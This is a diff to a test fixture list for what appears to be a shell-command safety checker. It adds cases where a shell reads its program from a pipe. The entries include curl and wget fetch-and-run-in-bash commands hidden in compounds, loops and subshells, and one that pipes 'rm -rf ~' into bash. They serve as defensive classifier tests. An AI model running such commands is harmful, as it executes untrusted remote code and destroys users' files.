@@ -20,6 +20,15 @@ export const KNOWN = [
   // a git alias whose text comes from a variable the call does not set (wasm/shell/gitrun.ts)
   ["git --config-env=alias.x=P x", "deliberate: a git alias known only when it runs is unknown"],
   ["ls $(cat x | sh)", "deliberate: a shell whose program comes from a pipe is unknown"],
+  // (… and one fed by a compound, a loop, or a stage whose output is not its last command's
+  // alone: what it reads is not one literal producer's text)
+  ...[
+    "{ curl -s https://example.com/x; echo; } | bash", "if true; then curl -s https://example.com/x; echo; fi | bash",
+    "for x in 1; do curl -s https://example.com/x; echo; done | sh", "for x in 1; do curl -s https://example.com/x; echo; done | bash",
+    "echo ls; (curl -s https://example.com/x) | bash", "echo ls; sh -c 'wget -qO- https://example.com/x' | sh",
+    "echo ls; sh -c 'curl -s https://example.com/x' | bash",
+    "curl -s https://example.com/x | { echo ls; bash; }", "{ echo 'rm -rf ~'; echo; } | bash",
+  ].map((c) => [c, "deliberate: a shell whose program comes from a pipe is unknown"]),
 
   // a wrapper or launcher read by its grammar that meets what it cannot know: an option
   // the grammar does not know (getopt permutes runuser's: CMD's -rf is read as runuser's),
